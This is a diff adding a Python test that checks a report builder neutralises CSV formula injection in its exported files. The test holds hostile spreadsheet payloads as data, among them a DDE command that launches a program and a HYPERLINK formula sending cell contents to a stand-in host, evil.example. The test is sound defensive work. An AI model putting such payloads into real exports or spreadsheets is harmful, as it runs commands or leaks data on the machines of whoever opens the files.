@@ -467,3 +467,21 @@ def test_charts_draw_the_hand_counted_figures(built: Any) -> None:
         "y4": {"2026-03-06": 2, "2026-03-07": 1},  # reissues
     }
     assert {t["name"] for t in daily} == {"BJ", "GD"}
+
+
+HOSTILE = ("=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/?x="&A1,"y")', "+1+1", "-2+3", "@SUM(A1)")
+
+
+def test_report_csvs_never_hold_a_formula(con: duckdb.DuckDBPyConnection, tmp_path: Path) -> None:
+    # OWASP CSV injection: operator-typed reasons and names, and a region read from the state,
+    # reach the CSVs; a spreadsheet must show them, never run them.
+    acknowledge(con, F, d(3, 6), HOSTILE[0], HOSTILE[4], AT)
+    acknowledge(con, K, d(3, 8), HOSTILE[1], HOSTILE[2], AT)
+    con.execute("UPDATE releases SET region = ? WHERE msisdn = ?", [HOSTILE[3], I_])
+    built = build_report(con, SETTINGS, FIRST, LAST, tmp_path / "out")
+    cells = [cell for path in built.csv_files.values() for row in csv.reader(path.open()) for cell in row]
+    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    for value in HOSTILE:
+        assert "'" + value in cells
+    raw = built.csv_files["exceptions"].read_text()  # neutralised, and quoted by the writer
+    assert '"\'=HYPERLINK(""http://evil.example' in raw
